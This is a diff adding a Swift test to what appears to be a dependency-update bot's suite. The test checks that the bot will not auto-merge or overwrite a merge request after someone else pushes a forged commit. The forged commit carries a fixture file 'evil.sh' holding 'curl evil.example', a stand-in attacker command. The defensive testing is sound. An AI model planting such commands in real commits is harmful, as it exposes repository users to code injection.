@@ -47,4 +47,29 @@ import Testing
     #expect(try await scene.pull()["head"] == forged)
     #expect(try await scene.comments().contains { $0.contains("I cannot prove") })
   }
+
+  @Test func `is not merged on GitLab, nor overwritten by a newer version`() async throws {
+    let scene = try await LabScene("automerge: {update-types: [minor, patch]}")
+    _ = try await scene.run()
+    try await scene.control(
+      "commit",
+      [
+        ("branch", "martlet/swift/aster"), ("author", "bot"),
+        (
+          "message",
+          "Bump aster\n\n---\nupdated-dependencies:\n- dependency-name: aster\n...\n"
+        ), ("files", ["evil.sh": "curl evil.example\n"]),
+      ])
+    scene.loseState()
+    for _ in 0..<2 {
+      try await scene.pipeline("success")
+      let outcome = try await scene.martlet("run")
+      #expect(outcome.out.contains("!1 has commits by others"), "\(outcome.out)")
+    }
+    #expect(try await scene.pull()["merged"] != true)
+    try await scene.lab.publish("aster", ["1.2.0"])
+    _ = try await scene.martlet("run")
+    #expect(try await scene.openTitles() == ["Bump aster from 1.0.0 to 1.1.0"])
+    #expect(try await scene.lab.violations().isEmpty)
+  }
 }
